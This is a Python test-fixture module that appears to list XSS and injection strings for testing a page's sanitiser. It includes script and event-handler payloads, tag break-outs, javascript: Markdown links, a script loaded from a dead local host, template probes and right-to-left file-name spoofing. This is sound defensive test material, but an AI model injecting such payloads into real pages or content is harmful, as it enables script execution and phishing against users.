"""Texts that would do something in a browser where a page took them for markup.

Each sets `window.harmed`, opens a dialog, asks the network, or bends the page out of shape.
Invisible characters are written as escapes, so that this file shows what it holds.
"""

from __future__ import annotations

from dataclasses import dataclass

HARM = "window.harmed=true"
ELSEWHERE = "http://127.0.0.1:9"  # where nothing may be asked for


@dataclass(frozen=True)
class Attack:
    name: str
    text: str


_TEXTS = {
    "script-tag": f"<script>{HARM}</script>",
    "script-from-elsewhere": f'<script src="{ELSEWHERE}/harm.js"></script>',
    "script-in-capitals": f"<ScRiPt>{HARM}</sCrIpT>",
    "end-of-script": f"</script><script>{HARM}</script>",
    "end-of-textarea": f"</textarea><script>{HARM}</script>",
    "end-of-title": f"</title><script>{HARM}</script>",
    "end-of-comment": f"--><script>{HARM}</script><!--",
    "end-of-data": f"]]><script>{HARM}</script>",
    "image-error": f"<img src=x onerror={HARM}>",
    "svg-load": f"<svg onload={HARM}><circle r=9 /></svg>",
    "svg-script": f"<svg><script>{HARM}</script></svg>",
    "svg-animate": f"<svg><animate onbegin={HARM} attributeName=x dur=1s></svg>",
    "svg-foreign": f"<svg><foreignObject><img src=x onerror={HARM}></foreignObject></svg>",
    "mathml": f"<math><mtext><img src=x onerror={HARM}></mtext></math>",
    "end-of-attribute": f'"><img src=x onerror={HARM}>',
    "end-of-quote": f"' autofocus onfocus='{HARM}' x='",
    "toggled": f"<details open ontoggle={HARM}><summary>x</summary></details>",
    "frame": f'<iframe srcdoc="<script>parent.harmed=true</script>"></iframe>{HARM}',
    "form": f'<form action="{ELSEWHERE}/take"><button autofocus>Log in</button></form>',
    "base": f'<base href="{ELSEWHERE}/">',
    "refresh": f'<meta http-equiv="refresh" content="0; url={ELSEWHERE}/">',
    "style": f"<style>body {{ display: none; background: url({ELSEWHERE}/seen) }}</style>",
    "style-sheet": f'<link rel="stylesheet" href="{ELSEWHERE}/harm.css">',
    "javascript-link": f"<a href=javascript:{HARM}>open</a>",
    "markdown-javascript": f"[open](javascript:{HARM})",
    "markdown-entity": f"[open](javascript&colon;{HARM})",
    "markdown-spaced": f"[open](java\tscript:{HARM})",
    "markdown-data": f"[open](data:text/html,<script>{HARM}</script>)",
    "markdown-image": f"![seen]({ELSEWHERE}/seen.png)",
    "markdown-quote": f'[open](http://x.example/"onmouseover="{HARM}")',
    "markdown-reference": f"[open][r]\n\n[r]: javascript:{HARM}",
    "markdown-autolink": f"<javascript:{HARM}>",
    "markdown-html-block": f"<div>\n\n<img src=x onerror={HARM}>\n\n</div>",
    "markdown-fence": f"```html onload={HARM}\n<script>{HARM}</script>\n```",
    "template": "{{ 7 * 7 }} {% raw %} ${7 * 7} #{7 * 7} <%= 7 * 7 %>",
    "number-format": "%s %n {0} {0.__class__}",
    "huge-word": "w" * 5_000,
    "right-to-left": "\u202egnp.exe\u202c \u2067\u0634\u0631\u062d\u2069 \u202d",
    "unclosed-right-to-left": "\u202e\u2067\u202b never closed",
    "stacked-marks": "Z" + "\u0351\u0352\u0353\u0354" * 60,
    "zero-width": "a\u200bb\u200dc\ufeffd\u2028e\u2029f",
    "surrogates-and-plane-16": "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0010ffff",
}
ATTACKS = tuple(Attack(name, text) for name, text in _TEXTS.items())
